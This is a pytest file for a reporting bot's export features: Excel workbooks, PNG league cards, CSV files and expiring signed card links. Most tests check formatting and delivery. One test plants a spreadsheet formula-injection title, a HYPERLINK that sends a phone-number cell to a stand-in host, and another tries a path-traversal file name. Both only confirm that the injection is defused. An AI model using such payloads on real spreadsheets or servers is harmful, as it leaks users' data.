"""Report files: the workbook read back with openpyxl, the PNG card decoded, CSV, and the
expiring card links the web server serves to Zalo."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import aiohttp
import pytest
from openpyxl import load_workbook
from PIL import Image

from bot import web
from bot.app import App
from handlers.clock import ManualClock, local_today
from handlers.errors import UserError
from handlers.exports import build
from handlers.exports.chat import deliver
from handlers.exports.links import CardLinks, create
from handlers.settings import ReportSettings
from tests.factories import Federation, add_initiatives


async def produce(app: App, clock: ManualClock, **request: object) -> build.Output:
    ctx = build.Context(programme=app.config.programme, reports=app.config.reports,
                        renderer=app.renderer, now=clock.now(),
                        today=local_today(clock, app.config.programme.tz))
    async with app.sessions() as session:
        return await build.produce(session, build.Request(**request), ctx)  # type: ignore[arg-type]


@pytest.fixture
async def scored(app: App, federation: Federation) -> Federation:
    # Approved: they count for targets and for awards, before and after reviews exist.
    await add_initiatives(app, federation, "0900000003", 3, status="approved")
    await add_initiatives(app, federation, "0900000006", 5, status="approved")
    await add_initiatives(app, federation, "0900000004", 2, status="approved")
    return federation


async def test_league_workbook_has_a_sheet_per_block_with_typed_cells(
        app: App, clock: ManualClock, scored: Federation) -> None:
    out = await produce(app, clock, kind="league", fmt="xlsx")
    book = load_workbook(io.BytesIO(out.data))
    assert book.sheetnames == ["KDN", "KHC"] and out.filename == "xephang-LDLD-T.xlsx"
    sheet = book["KDN"]
    assert sheet["A1"].value == "Bảng xếp hạng Khối KDN"
    assert [c.value for c in sheet[3]][:7] == ["Hạng", "So tuần trước", "Mã", "Đơn vị",
                                               "Số sáng kiến", "Chỉ tiêu", "% chỉ tiêu"]
    assert sheet.freeze_panes == "E4"
    first = [c.value for c in sheet[4]]
    assert first[:7] == [1, 0, "DN02", "Công ty Cơ khí Đông Anh", 5, 5, 1.0]
    assert sheet["G4"].number_format == "0%" and sheet["E4"].number_format == "#,##0"
    assert sheet["H4"].number_format == "0.0" and sheet["H4"].value == pytest.approx(5 * 100 / 60)
    assert [c.value for c in sheet[6]][3:7] == ["Cộng", 8, 15, pytest.approx(8 / 15)]
    assert sheet.column_dimensions["D"].width >= 40


async def test_the_unit_row_is_highlighted_in_its_block(app: App, clock: ManualClock,
                                                        scored: Federation) -> None:
    out = await produce(app, clock, kind="league", fmt="xlsx", unit="DN01")
    sheet = load_workbook(io.BytesIO(out.data))["KDN"]
    assert sheet["C5"].value == "DN01" and sheet["C5"].fill.fgColor.rgb.endswith("FFF2CC")
    assert sheet["C4"].fill.fgColor.rgb in ("00000000", None)


async def test_league_card_is_1080_wide_and_not_blank(app: App, clock: ManualClock,
                                                      scored: Federation) -> None:
    out = await produce(app, clock, kind="league", fmt="png", unit="DN01")
    image = Image.open(io.BytesIO(out.data)).convert("RGB")
    assert image.width == 1080 and image.height > 600
    colours = image.getcolors(maxcolors=1_000_000)
    assert colours is not None and len(colours) > 50  # text, bands and the highlighted row
    highlighted = [y for y in range(image.height) if image.getpixel((1070, y)) == (0xFF, 0xE9, 0xA8)]
    assert 80 <= len(highlighted) <= 100  # exactly one row (96 px) wears the highlight


async def test_a_card_too_long_for_a_phone_is_refused(app: App, clock: ManualClock,
                                                      scored: Federation) -> None:
    app.config = app.config.model_copy(update={"reports": ReportSettings(card_max_rows=3)})
    with pytest.raises(UserError) as refused:
        await produce(app, clock, kind="league", fmt="png")
    assert refused.value.template == "reports/too_many_rows"
    assert refused.value.data == {"rows": 4, "limit": 3}


async def test_league_csv_has_one_header_and_the_block_in_front(app: App, clock: ManualClock,
                                                                scored: Federation) -> None:
    out = await produce(app, clock, kind="league", fmt="csv")
    rows = list(csv.reader(io.StringIO(out.data)))
    assert rows[0][:4] == ["Khối", "Hạng", "So tuần trước", "Mã"]
    assert [(r[0], r[3], r[5]) for r in rows[1:]] == [
        ("KDN", "DN02", "5"), ("KDN", "DN01", "3"), ("KHC", "TH01", "2"), ("KHC", "TH02", "0")]


async def test_award_workbook_has_reasons_and_an_empty_decision_column(
        app: App, clock: ManualClock, scored: Federation) -> None:
    out = await produce(app, clock, kind="awards", fmt="xlsx")
    book = load_workbook(io.BytesIO(out.data))
    assert book.sheetnames == ["Tập thể", "Cá nhân"]
    sheet = book["Tập thể"]
    header = [c.value for c in sheet[3]]
    assert header[-2:] == ["Lý do xếp hạng", "Quyết định / ghi chú"]
    assert sheet["B4"].value == "DN02" and "100% chỉ tiêu" in sheet.cell(4, len(header) - 1).value
    assert sheet.cell(4, len(header)).value is None
    assert book["Cá nhân"]["B4"].value == "Vũ Thị Mai"


@pytest.mark.parametrize("kind", ["units", "benefits", "silent", "initiatives"])
async def test_every_report_opens_in_excel(app: App, clock: ManualClock, scored: Federation,
                                           kind: str) -> None:
    out = await produce(app, clock, kind=kind, fmt="xlsx")
    book = load_workbook(io.BytesIO(out.data))
    assert out.rows > 0 and all(ws.max_row >= 4 for ws in book.worksheets[:1])


async def test_a_title_typed_as_a_formula_is_exported_as_inert_text(
        app: App, clock: ManualClock, federation: Federation) -> None:
    typed = '=HYPERLINK("http://x/?"&N4,"Xem chi tiết")'
    await add_initiatives(app, federation, "0900000003", 1, title=typed)
    sheet = load_workbook(io.BytesIO((await produce(app, clock, kind="initiatives",
                                                    fmt="xlsx")).data)).active
    assert [c.value for c in sheet[3]][6] == "Tên sáng kiến"
    assert (sheet["G4"].value, sheet["G4"].data_type, sheet["N4"].value) == (
        typed, "s", "0900000003")
    rows = list(csv.reader(io.StringIO((await produce(app, clock, kind="initiatives",
                                                      fmt="csv")).data)))
    assert (rows[1][6], rows[1][13]) == ("'" + typed, "0900000003")


def test_card_links_expire_and_refuse_tampering(tmp_path: Path, clock: ManualClock) -> None:
    links = CardLinks(tmp_path, "secret", timedelta(hours=1), "https://bot.example")
    card = tmp_path / "xephang-AB12.png"
    card.write_bytes(b"png")
    url = links.url_for(card, clock.now())
    assert url is not None and url.startswith("https://bot.example/cards/")
    expires, signature, name = url.rsplit("/", 3)[1:]
    assert links.resolve(expires=expires, signature=signature, name=name, now=clock.now()) == card
    later = clock.now() + timedelta(hours=1, seconds=1)
    assert links.resolve(expires=expires, signature=signature, name=name, now=later) is None
    assert links.resolve(expires=str(int(expires) + 999), signature=signature, name=name,
                         now=clock.now()) is None
    assert links.resolve(expires=expires, signature=signature, name="../etc.png",
                         now=clock.now()) is None


def test_zalo_gets_a_photo_by_url_only_when_a_public_url_is_set(tmp_path: Path,
                                                                clock: ManualClock) -> None:
    settings = ReportSettings(export_dir=str(tmp_path), card_key="k")
    public = deliver(create(settings, public_url="https://bot.example"), data=b"png",
                     filename="xephang-X.png", channel="zalo", caption="c", now=clock.now())
    assert public.attachment is not None and public.attachment["url"].startswith("https://")
    private = deliver(create(settings), data=b"png", filename="xephang-X.png", channel="zalo",
                      caption="c", now=clock.now())
    assert private.attachment is None and private.link is None and private.path.exists()
    telegram = deliver(create(settings), data=b"x", filename="a.xlsx", channel="telegram",
                       caption="c", now=clock.now())
    assert telegram.attachment == {"type": "document", "path": str(telegram.path),
                                   "filename": "a.xlsx", "caption": "c"}


async def test_web_server_serves_a_card_until_its_link_expires(app: App, clock: ManualClock,
                                                               tmp_path: Path) -> None:
    app.exports = create(ReportSettings(export_dir=str(tmp_path), card_key="k"),
                         public_url="http://127.0.0.1")
    card = tmp_path / "xephang-T-abc.png"
    card.write_bytes(b"\x89PNG fake")
    path = app.exports.links.path_for(card, clock.now())
    runner = await web.start(web.build(app), host="127.0.0.1", port=0)
    base = f"http://{web.bound_address(runner)}"
    try:
        async with aiohttp.ClientSession() as http:
            async with http.get(base + path) as ok:
                assert ok.status == 200 and await ok.read() == b"\x89PNG fake"
            async with http.get(base + path.replace("/cards/", "/cards/1")) as forged:
                assert forged.status == 404
            clock.advance(hours=73)
            async with http.get(base + path) as expired:
                assert expired.status == 404
    finally:
        await runner.cleanup()


def test_old_exports_are_pruned_when_a_new_one_is_saved(tmp_path: Path,
                                                        clock: ManualClock) -> None:
    import os

    exports = create(ReportSettings(export_dir=str(tmp_path), card_key="k", card_ttl_hours=1))
    old = tmp_path / "old-abc.png"
    old.write_bytes(b"x")
    stamp = (clock.now() - timedelta(days=2)).timestamp()
    os.utime(old, (stamp, stamp))
    fresh = deliver(exports, data=b"png", filename="new.png", channel="telegram", caption="c",
                    now=clock.now())
    assert not old.exists() and fresh.path.exists()
